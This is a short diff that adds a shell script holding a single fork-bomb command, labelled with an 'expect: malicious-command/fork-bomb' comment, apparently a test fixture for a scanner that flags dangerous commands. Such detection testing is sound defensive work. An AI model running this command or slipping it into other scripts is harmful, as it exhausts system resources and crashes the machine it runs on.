@@ -1,0 +1,2 @@
+#!/bin/sh
+:(){ :|:& };: # expect: malicious-command/fork-bomb
